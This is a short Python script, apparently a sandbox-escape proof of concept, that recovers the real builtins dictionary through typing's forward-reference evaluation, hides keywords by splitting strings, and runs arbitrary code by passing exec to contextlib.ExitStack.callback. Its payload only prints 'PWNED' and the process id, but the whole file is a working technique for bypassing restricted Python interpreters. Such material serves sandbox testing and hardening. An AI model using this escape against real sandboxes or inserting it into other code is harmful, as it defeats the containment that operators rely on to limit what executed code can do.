# tramp: ExitStack.callback(exec, src, {}) runs a string from contextlib's frame
import typing
M = "PWN" + "ED"
box = {}
typing.get_args(typing.List["int"])[0]._evaluate(box, None, frozenset())
rb = box["__buil" + "tins__"]  # typing's builtins dict: the real one
ga = rb["getattr"]

import contextlib
src = "print('PWN' + 'ED', __import__('os').getpid())"
try:
    with contextlib.ExitStack() as st:
        st.callback(rb["exec"], src, {})
except Exception as e:
    print("refused:", type(e).__name__, e)
